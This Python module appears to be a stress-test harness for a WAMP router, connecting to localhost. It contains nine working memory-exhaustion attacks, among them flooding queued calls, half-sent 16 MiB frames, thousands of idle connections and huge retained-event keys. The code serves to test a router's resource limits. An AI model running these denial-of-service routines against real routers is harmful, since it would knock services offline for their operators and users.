"""Clients that make a router hold memory for them, each in a way of its own. They speak RawSocket and JSON."""

import contextlib
import json
import os
import select
import socket
import struct

KIBIBYTE, MEBIBYTE = 1 << 10, 1 << 20
ALL_ROLES = {
    "caller": {}, "publisher": {"features": {"payload_passthru_mode": True}}, "subscriber": {},
    "callee": {"features": {"call_reroute": True}},
}


def frame(message):
    data = message if isinstance(message, bytes) else json.dumps(message).encode()
    return struct.pack(">I", len(data)) + data


class Client:
    """A connection that never waits: what the router does not take is not said, what it says is not read unless asked."""

    def __init__(self, port, joins=True):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.socket.sendall(b"\x7f\xf1\x00\x00")
        self.socket.recv(4)
        self.request = 0
        if joins:
            self.socket.sendall(frame([1, "realm1", {"roles": ALL_ROLES}]))
            if self.hear()[0] != 2:
                raise RuntimeError("not welcome")

    def hear(self):
        size = struct.unpack(">I", self._read(4))[0]
        return json.loads(self._read(size))

    def _read(self, size):
        data = b""
        while len(data) < size:
            more = self.socket.recv(size - len(data))
            if not more:
                raise ConnectionError("the router has ended the connection")
            data += more
        return data

    def say(self, data, patience_s=2):
        """False if the router has ended the connection, or does not take it all in time."""
        data = memoryview(data)
        self.socket.setblocking(False)
        try:
            while data:
                if not select.select([], [self.socket], [], patience_s)[1]:
                    return False
                data = data[self.socket.send(data):]
            return True
        except OSError:
            return False
        finally:
            with contextlib.suppress(OSError):
                self.socket.settimeout(10)

    def ask(self, kind, *rest):
        self.request += 1
        return self.say(frame([kind, self.request, *rest]))

    def is_gone(self):
        try:
            self.socket.settimeout(0.01)
            while self.socket.recv(MEBIBYTE):
                pass
            return True
        except TimeoutError:
            return False
        except OSError:
            return True

    def close(self):
        self.socket.close()


def join_many(port, count, **how):
    clients = []
    for _ in range(count):
        try:
            clients.append(Client(port, **how))
        except (OSError, RuntimeError):  # nobody is let in any more
            break
    return clients


def waiting_calls(port):
    """Calls that wait for a callee that has a concurrency of one, of 64 KiB each, by 20 callers."""
    callee, callers = Client(port), join_many(port, 20)
    callee.ask(64, {"concurrency": 1}, "attack.waiting")
    payload = "x" * (60 * KIBIBYTE)
    for _ in range(900):
        for caller in callers:
            caller.ask(48, {}, "attack.waiting", [payload])
    return [callee, *callers]


def kept_calls(port):
    """Calls of a megabyte that a callee, which takes them and says nothing, might pass on."""
    callee, callers = Client(port), join_many(port, 20)
    callee.ask(64, {}, "attack.kept")
    payload = "x" * MEBIBYTE
    for _ in range(60):
        for caller in callers:
            caller.ask(48, {}, "attack.kept", [payload])
        callee.is_gone()  # it reads
    return [callee, *callers]


def testaments(port):
    clients = join_many(port, 50)
    payload = "x" * MEBIBYTE
    for _ in range(60):
        for client in clients:
            client.ask(48, {}, "wamp.session.add_testament", ["attack.gone", [payload], {}])
    return clients


def unfinished_messages(port):
    """15 of 16 MiB, by 60 sessions."""
    clients = join_many(port, 60)
    part = os.urandom(MEBIBYTE).hex().encode()[:MEBIBYTE]
    for client in clients:
        client.say(struct.pack(">I", 16 * MEBIBYTE - 1))
    for _ in range(15):
        for client in clients:
            client.say(part)
    return clients


def unfinished_hellos(port):
    """The same by connections that have not logged in."""
    clients = join_many(port, 60, joins=False)
    part = b"x" * MEBIBYTE
    for client in clients:
        client.say(struct.pack(">I", 16 * MEBIBYTE - 1))
    for _ in range(15):
        for client in clients:
            client.say(part, 0.1)
    return clients


def many_beginnings(port):
    """60 KiB of a HELLO by each of 8,000 connections."""
    clients = join_many(port, 8000, joins=False)
    part = struct.pack(">I", 62 * KIBIBYTE) + b"x" * (60 * KIBIBYTE)
    for client in clients:
        client.say(part, 0.1)
    return clients


def retained_events(port):
    """400 MiB of ppt_keyid."""
    clients = join_many(port, 2)
    key = "k" * MEBIBYTE
    for number in range(200):
        for which, client in enumerate(clients):
            client.ask(16, {"retain": True, "ppt_scheme": "x_attack", "ppt_keyid": key}, f"attack.retained.{which}.{number}", ["x"])
    return clients


def patterns(port):
    """As many wildcards of 82 components as ten sessions may have."""
    clients = join_many(port, 10)
    for number in range(20_000):
        client = clients[number % len(clients)]
        components = [f"a{(number >> i) & 1}{i}" if i % 2 == 0 else "" for i in range(82)]
        components[0] = f"n{number}"
        if not client.ask(32, {"match": "wildcard"}, ".".join(components)):
            break
        if number % 100 < 10:
            client.is_gone()  # it reads
    return clients


def slow_subscribers(port):
    """One publisher, and 60 subscribers that stop reading, each with a topic of its own, of events of 1 KiB."""
    publisher, subscribers = Client(port), join_many(port, 60)
    for which, subscriber in enumerate(subscribers):
        subscriber.ask(32, {}, f"attack.slow.{which}")
    payload = "x" * KIBIBYTE
    for _ in range(300):
        for which in range(len(subscribers)):
            many = b"".join(frame([16, publisher.request + i + 1, {}, f"attack.slow.{which}", [payload]]) for i in range(40))
            publisher.request += 40
            if not publisher.say(many, 10):
                return [publisher, *subscribers]
    return [publisher, *subscribers]


ATTACKS = [waiting_calls, kept_calls, testaments, unfinished_messages, unfinished_hellos, many_beginnings, retained_events,
           patterns, slow_subscribers]
